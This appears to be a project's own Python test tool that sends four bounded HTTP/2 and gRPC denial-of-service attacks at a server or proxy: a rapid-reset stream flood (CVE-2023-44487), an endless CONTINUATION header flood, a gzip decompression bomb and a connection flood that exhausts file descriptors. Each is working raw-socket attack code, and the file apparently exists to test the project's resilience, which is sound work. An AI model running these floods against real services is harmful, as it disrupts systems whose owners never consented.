"""The project's own HTTP/2 attack clients, bounded in count and time: the
floods that gRPC 1.51 (Debian 12's) cannot stop itself, sent to a server
or to the proxy in front of it (docs/reliability.md, "Attacks below our
code"). Each speaks HTTP/2 on a raw socket: no client library would send
these frames.

    python3 http2_attacks.py resets HOST:PORT [COUNT]
    python3 http2_attacks.py continuation HOST:PORT [MEGABYTES]
    python3 http2_attacks.py gzip-bomb HOST:PORT [INFLATED_MEGABYTES]
    python3 http2_attacks.py descriptors HOST:PORT [CONNECTIONS]
"""

import socket
import sys
import threading
import time

import grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_HEADERS = 0x4
CANCEL = 8


def http2_frame(kind, flags, stream, payload):
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
            + payload)


def hpack_literal(name, value):
    """A header as an HPACK literal without indexing, new name, no Huffman
    (name and value under 127 bytes)."""
    return bytes([0x00, len(name)]) + name + bytes([len(value)]) + value


def grpc_request_headers(path):
    return b"".join(hpack_literal(n, v) for n, v in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
        (b":authority", b"localhost"), (b"content-type", b"application/grpc"),
        (b"te", b"trailers")))


def _connect(host, port, source):
    s = socket.create_connection((host, port), timeout=10,
                                 source_address=(source, 0) if source else None)
    s.sendall(PREFACE + http2_frame(SETTINGS, 0, 0, b""))
    return s


class _Drain(threading.Thread):
    """Reads and drops what the peer sends, so that its writes never block;
    `closed` is set once the peer has closed the connection."""

    def __init__(self, sock):
        super().__init__(daemon=True)
        self.sock = sock
        self.closed = threading.Event()

    def run(self):
        try:
            while self.sock.recv(65536):
                pass
        except OSError:
            pass
        self.closed.set()


def reset_flood(host, port, count, path=b"/performer.v1.Generation/Generate", source=None):
    """`count` streams on one connection, each HEADERS then RST_STREAM
    (CANCEL) at once (CVE-2023-44487, "rapid reset"). Returns the streams
    sent before the peer closed the connection."""
    s = _connect(host, port, source)
    drain = _Drain(s)
    drain.start()
    frames = grpc_request_headers(path)
    sent, stream, batch = 0, 1, []
    try:
        for _ in range(count):
            batch.append(http2_frame(HEADERS, END_HEADERS, stream, frames)
                         + http2_frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")))
            stream += 2
            if len(batch) == 500:
                s.sendall(b"".join(batch))
                sent += len(batch)
                batch = []
        if batch:
            s.sendall(b"".join(batch))
            sent += len(batch)
    except OSError:
        pass
    finally:
        drain.closed.wait(1)
        s.close()
    return sent


def continuation_flood(host, port, megabytes, source=None):
    """HEADERS without END_HEADERS, then CONTINUATION frames of 16 KB header
    literals, never ending the block, up to `megabytes`. Returns (bytes
    sent, whether the peer closed the connection before the end)."""
    s = _connect(host, port, source)
    drain = _Drain(s)
    drain.start()
    value = b"a" * 16000
    # A literal without indexing, new name "x-a", value length as an HPACK
    # integer with a 7-bit prefix (127 + 16000 - 127).
    rest = len(value) - 127
    literal = bytes([0x00, 3]) + b"x-a" + bytes([0x7f, (rest & 0x7f) | 0x80, rest >> 7]) + value
    chunk = http2_frame(CONTINUATION, 0, 1, literal) * 64
    sent, limit = 0, megabytes << 20
    try:
        s.sendall(http2_frame(HEADERS, 0, 1, grpc_request_headers(b"/grpc.health.v1.Health/Check")))
        while sent < limit and not drain.closed.is_set():
            s.sendall(chunk)
            sent += len(chunk)
    except OSError:
        pass
    closed = sent < limit
    s.close()
    return sent, closed


def gzip_bomb(host, port, inflated_megabytes, path="/performer.v1.Generation/Generate"):
    """One unary call whose gzip-compressed message inflates to
    `inflated_megabytes` of zeros (about a thousandth of that on the wire).
    Returns the call's (status code, details)."""
    channel = grpc.insecure_channel("%s:%d" % (host, port),
                                    options=[("grpc.max_send_message_length", -1)])
    call = channel.unary_unary(path, request_serializer=None, response_deserializer=None)
    try:
        call(bytes(inflated_megabytes << 20), timeout=60, compression=grpc.Compression.Gzip)
        return grpc.StatusCode.OK, ""
    except grpc.RpcError as e:
        return e.code(), e.details()
    finally:
        channel.close()


def exhaust_descriptors(host, port, connections, hold_seconds=2):
    """Opens up to `connections` idle TCP connections, holds them, closes
    them. Returns how many were opened."""
    socks = []
    try:
        for _ in range(connections):
            try:
                socks.append(socket.create_connection((host, port), timeout=2))
            except OSError:
                break
        time.sleep(hold_seconds)
        return len(socks)
    finally:
        for s in socks:
            s.close()


def main(argv):
    if len(argv) < 3:
        sys.exit(__doc__)
    host, _, port = argv[2].rpartition(":")
    port = int(port)
    size = int(argv[3]) if len(argv) > 3 else None
    kind = argv[1]
    if kind == "resets":
        print("streams sent:", reset_flood(host, port, size or 50000))
    elif kind == "continuation":
        print("bytes sent, closed by the peer:", continuation_flood(host, port, size or 512))
    elif kind == "gzip-bomb":
        print("status:", gzip_bomb(host, port, size or 512))
    elif kind == "descriptors":
        print("connections opened:", exhaust_descriptors(host, port, size or 200))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv)
